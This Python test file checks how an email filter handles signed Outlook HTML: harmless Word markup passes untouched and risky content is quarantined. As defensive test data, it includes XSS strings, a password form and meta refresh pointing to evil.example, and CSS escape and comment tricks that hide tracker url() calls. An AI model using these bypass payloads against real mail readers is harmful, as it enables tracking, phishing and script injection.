"""Signed Outlook HTML under ``signed_mail: skip``: what sanitizing would change in it only
harmlessly (Word's markup) goes out as it came, signature intact, said in the verdict's
changes; anything else sanitizing would change still holds the message."""

from __future__ import annotations

import pytest

from postwarden_policies import (
    Accept,
    Envelope,
    Quarantine,
    SignedHtmlKept,
    Verdict,
    evaluate_message,
    verdict_json,
)
from postwarden_policies.render import verdict_lines
from postwarden_policies.verdicts import ReplaceBody
from tests.smime_outlook import (
    LIST_SHEET,
    LOGO_IMAGES,
    LOGO_SIGNATURE,
    OWA_QUOTED_REPLY,
    cjk_outlook_html,
    outlook_html,
    signed_outlook_mail,
)

from .policy_helpers import policy

HEADERS = ("From: Alice <alice@sender.test>\r\nTo: bob@example.com\r\n"
           "Subject: figures\r\nMessage-ID: <o1@sender.test>\r\n")
ENV = Envelope(sender="alice@sender.test", recipients=("bob@example.com",))
TRACKER = "https://tracker.example/p.gif"


def _verdict(html: str, remote_images: str = "keep", images: tuple[str, ...] = ()) -> Verdict:
    policies = policy(f"sanitize:\n  html: true\n  remote_images: {remote_images}\n")
    return evaluate_message(policies, signed_outlook_mail(html, HEADERS, images=images), ENV)


@pytest.mark.parametrize("remote_images", ["keep", "strip"])
def test_signed_outlook_html_goes_out_as_it_came(remote_images: str) -> None:
    verdict = _verdict(outlook_html(), remote_images)
    assert isinstance(verdict.decision, Accept)
    assert not any(isinstance(edit, ReplaceBody) for edit in verdict.edits)
    [kept] = verdict.changes
    assert isinstance(kept, SignedHtmlKept)
    assert kept.part == "1.2"
    assert dict(kept.removed)["o:p"] == 6 and dict(kept.removed)["meta"] == 2
    # The audit and the CLI say it was signed and left as it came, not sanitized.
    assert verdict_json(verdict)["changes"][0]["type"] == "signed_html_kept"
    assert any(line.startswith("change: kept signed part 1.2 as it came")
               for line in verdict_lines(verdict))


def test_signed_outlook_html_with_a_link_and_a_cid_image_goes_out_as_it_came() -> None:
    body = ('<p class="MsoNormal"><a href="https://example.org/ticket/42">ticket</a>'
            '<img width="20" height="20" src="cid:image001.png@01DA"><o:p></o:p></p>\n')
    assert isinstance(_verdict(outlook_html(body), "strip").decision, Accept)


@pytest.mark.parametrize("remote_images", ["keep", "strip"])
def test_a_signed_outlook_signature_with_its_logo_goes_out_as_it_came(
        remote_images: str) -> None:
    # Word's picture ids (Picture_x0020_1, _x0000_i1025), which the sanitizer drops as
    # ids, held nearly every signed mail with a logo in its signature.
    verdict = _verdict(outlook_html(LOGO_SIGNATURE), remote_images, LOGO_IMAGES)
    assert isinstance(verdict.decision, Accept) and verdict.edits == ()
    [kept] = verdict.changes
    assert isinstance(kept, SignedHtmlKept) and kept.part == "1.1.2"
    assert dict(kept.removed)["@id"] == 2


def test_a_signed_reply_quoting_outlook_on_the_web_with_a_logo_goes_out_as_it_came() -> None:
    # OWA puts x_ before the ids of what it quotes (x_Picture_x0020_1), which were held.
    verdict = _verdict(outlook_html(OWA_QUOTED_REPLY), "strip", LOGO_IMAGES)
    assert isinstance(verdict.decision, Accept) and verdict.edits == ()
    [kept] = verdict.changes
    assert isinstance(kept, SignedHtmlKept) and dict(kept.removed)["@id"] == 2


@pytest.mark.parametrize("picture", ["Grafik_x0020_3", "Picture_x0020_12", "_x0000_i1031",
                                     "x_x_Picture_x0020_1"])
def test_word_picture_ids_in_other_languages_count_as_harmless(picture: str) -> None:
    html = outlook_html(LOGO_SIGNATURE.replace("Picture_x0020_1", picture))
    assert isinstance(_verdict(html, images=LOGO_IMAGES).decision, Accept)


# What Outlook writes in a reply and a bulleted list: a quoted font name in a style had
# the sanitizer write the tag anew, and Word's markers around a bullet are comments.
REPLY = """<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'>
<p class=MsoNormal><b><span lang=EN-US style='font-size:11.0pt;font-family:"Calibri",\
sans-serif;mso-fareast-language:EN-US'>From:</span></b><span lang=EN-US> Bob<br>\
<b>Sent:</b> Monday</span><o:p></o:p></p></div>
<p class=MsoNormal><!--[if !supportLineBreakNewLine]--><br><!--[endif]--><o:p></o:p></p>
"""
BULLET = """<p class=MsoListParagraph style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'>\
<![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>\
&middot;<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span>\
<![endif]>Item<o:p></o:p></p>
"""


@pytest.mark.parametrize("body", [REPLY, BULLET])
def test_a_signed_outlook_reply_or_list_goes_out_as_it_came(body: str) -> None:
    verdict = _verdict(outlook_html(body), "strip")
    assert isinstance(verdict.decision, Accept)
    assert [type(change) for change in verdict.changes] == [SignedHtmlKept]


def test_a_signed_outlook_bulleted_list_with_its_list_sheet_goes_out_as_it_came() -> None:
    # Word's bullets are escapes (mso-level-text:\F0B7), which were refused outright.
    verdict = _verdict(outlook_html(BULLET, sheet=LIST_SHEET), "strip")
    assert isinstance(verdict.decision, Accept)
    assert [type(change) for change in verdict.changes] == [SignedHtmlKept]


def test_a_signed_chinese_or_japanese_outlook_mail_goes_out_as_it_came() -> None:
    # Their font names are escapes (font-family:\5B8B\4F53 is SimSun), which were refused.
    verdict = _verdict(cjk_outlook_html(), "strip")
    assert isinstance(verdict.decision, Accept)
    assert [type(change) for change in verdict.changes] == [SignedHtmlKept]


@pytest.mark.parametrize("declaration", [r"mso-level-text:\F0B7", "font-family:Symbol"])
@pytest.mark.parametrize("value", [
    r"\75 rl(https://tracker.example/p.gif)",  # url(
    r"\000075\72\6c(https://tracker.example/p.gif)",  # url( of six digits and none
    r"\22 x\22",  # quotes, closing each other as read
    r"\27 x\27",
    r"\7d",  # a brace
    r"\7b",
    r"\3b",  # a semicolon
    r"\5c 75 rl(https://tracker.example/p.gif)",  # a backslash
    r"\2f\2a x",  # a comment
    "x\\",  # an escape that is none
    # An escaped "/" opens no comment: read as one, it hid the rule after it.
    f"a\\/* ; }} body {{background:url({TRACKER})}} p {{ */b",
    f'a\\"/* ; }} body {{background:url({TRACKER})}} p {{ */b',
    r'"\5B8B\22 ,x"',  # in a string, a quote that would end it
    r'"\5B8B\"x"',
    '"\\5B8B\\\n\\4F53"',  # a string's line continued
])
def test_an_escape_that_reads_as_markup_holds_the_message(declaration: str,
                                                          value: str) -> None:
    sheet = LIST_SHEET.replace(declaration, f"{declaration.partition(':')[0]}:{value}")
    assert sheet != LIST_SHEET
    assert isinstance(_verdict(outlook_html(BULLET, sheet=sheet)).decision, Quarantine)


def test_an_escape_outside_mso_properties_and_font_family_holds_the_message() -> None:
    sheet = LIST_SHEET.replace("text-indent:-18.0pt", r"text-indent:\2d 18.0pt")
    assert sheet != LIST_SHEET
    assert isinstance(_verdict(outlook_html(BULLET, sheet=sheet)).decision, Quarantine)


@pytest.mark.parametrize(("body", "extra", "remote_images"), [
    ("""<p><span style='font-family:"Calibri";position:fixed;top:0'>Hi</span></p>""",
     "", "keep"),
    ("""<p><span style='font-family:"Calibri"' onclick="steal()">Hi</span></p>""", "", "keep"),
    (f'<p><![if !vml]><img src="{TRACKER}"><![endif]></p>', "", "strip"),
    ("<script>alert(1)</script>", "", "keep"),
    ('<p class="MsoNormal" onclick="steal()">Open<o:p></o:p></p>', "", "keep"),
    (f'<p class="MsoNormal"><img src="{TRACKER}"><o:p></o:p></p>', "", "strip"),
    ('<p><a href="javascript:alert(1)">ticket</a></p>', "", "keep"),
    ('<form action="https://evil.example/"><input name="pw"></form>', "", "keep"),
    # Outlook's conditional comments: one holding an image, which Outlook shows.
    ("", f'<!--[if gte mso 9]><img src="{TRACKER}"><![endif]-->', "keep"),
    ("", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "keep"),
    # A charset other than the label's: readers may read other markup by it.
    ("", '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">', "keep"),
    ("", "<style>p.MsoNormal {position:fixed; top:0}</style>", "keep"),
    ("", f"<style>p.MsoNormal {{background:url({TRACKER})}}</style>", "keep"),
    ("", "<style>body {display:none}</style>", "keep"),
    # An escape in a style attribute's mso-* property that reads as url(.
    (f"<p><span style='mso-list:\\75 rl({TRACKER})'>Hi</span></p>", "", "keep"),
    (f"<p><span style='font-family:\\75 rl({TRACKER})'>Hi</span></p>", "", "keep"),
    ("""<p><span style='font-family:"\\5B8B\\22 ,\\7d"'>Hi</span></p>""", "", "keep"),
    ("", f'<link rel="stylesheet" href="{TRACKER}">', "keep"),
    # An id on an image that is not Word's picture id could clobber a script's global;
    # Word's with anything else the sanitizer drops, or on another tag, or given twice.
    ('<p><img id="config" src="cid:image001.png@01DA"></p>', "", "keep"),
    ('<p><img id="Picture_x0020_1x" src="cid:image001.png@01DA"></p>', "", "keep"),
    ('<p><img id="x_config" src="cid:image001.png@01DA"></p>', "", "keep"),
    ('<p><img id="y_Picture_x0020_1" src="cid:image001.png@01DA"></p>', "", "keep"),
    ('<p><img id="Picture_x0020_1" src=x onerror="alert(1)"></p>', "", "keep"),
    ('<p><img id="Picture_x0020_1" id="config" src="cid:image001.png@01DA"></p>', "", "keep"),
    ('<p><img id="_x0000_i1025" src="javascript:alert(1)"></p>', "", "keep"),
    ('<p id="Picture_x0020_1">Hi</p>', "", "keep"),
    ('<p id="x_Picture_x0020_1">Hi</p>', "", "keep"),
    ('<p><a id="_x0000_i1025" href="https://example.org/">x</a></p>', "", "keep"),
    (f'<p><img id="Picture_x0020_1" src="{TRACKER}"></p>', "", "strip"),
    # Taking <o:p> out would join "<" to what follows: held, not judged joined.
    ('<<o:p></o:p>img src=x onerror=alert(1)>', "", "keep"),
])
def test_signed_html_whose_change_matters_is_held(body: str, extra: str,
                                                  remote_images: str) -> None:
    verdict = _verdict(outlook_html(body, extra), remote_images)
    assert isinstance(verdict.decision, Quarantine)
    assert "signed part" in verdict.decision.reason
    assert verdict.changes == ()


def test_a_body_style_that_hides_holds_the_message() -> None:
    html = outlook_html().replace('style="word-wrap:break-word"', 'style="display:none"')
    assert isinstance(_verdict(html).decision, Quarantine)


def test_signed_mail_sanitize_still_sanitizes_outlook_html() -> None:
    policies = policy("sanitize:\n  html: true\n  signed_mail: sanitize\n")
    verdict = evaluate_message(policies, signed_outlook_mail(outlook_html(), HEADERS), ENV)
    assert [verdict_json(verdict)["changes"][0]["type"]] == ["html_sanitized"]


@pytest.mark.parametrize("signed_mail", ["skip", "sanitize"])
def test_opaque_signed_outlook_html_goes_out_as_it_came(signed_mail: str) -> None:
    # Inside the signature's DER nothing can change, whatever signed_mail says: held
    # for Word's markup, opaque-signed Outlook mail was held under either.
    policies = policy(f"sanitize:\n  html: true\n  signed_mail: {signed_mail}\n")
    raw = signed_outlook_mail(outlook_html(), HEADERS, opaque=True)
    verdict = evaluate_message(policies, raw, ENV)
    assert isinstance(verdict.decision, Accept) and verdict.edits == ()
    [kept] = verdict.changes
    assert isinstance(kept, SignedHtmlKept) and kept.part == "1.2"


def test_opaque_signed_outlook_html_with_a_script_is_held() -> None:
    raw = signed_outlook_mail(outlook_html("<script>alert(1)</script>"), HEADERS, opaque=True)
    verdict = evaluate_message(policy("sanitize:\n  html: true\n"), raw, ENV)
    assert isinstance(verdict.decision, Quarantine)
    assert "S/MIME signed data" in verdict.decision.reason


@pytest.mark.parametrize("sheet", [
    # A "/*" in a string opens no comment: read as one, it hid the url() from the check.
    f'p.MsoNormal {{font-family:"/*"; background:url({TRACKER}) /*"*/}}',
    f'p.MsoNormal {{font-family:"Calibri; background:url({TRACKER})"}}',
    f"p.MsoNormal {{background:\\75 rl({TRACKER})}}",
    f"@font-face {{font-family:X; src:url({TRACKER})}}",
    "@media screen {p.MsoNormal {color:red}}",
])
def test_a_sheet_that_only_looks_like_outlooks_holds_the_message(sheet: str) -> None:
    html = outlook_html().replace("div.WordSection1\n", f"{sheet}\ndiv.WordSection1\n")
    assert html != outlook_html()
    assert isinstance(_verdict(html).decision, Quarantine)
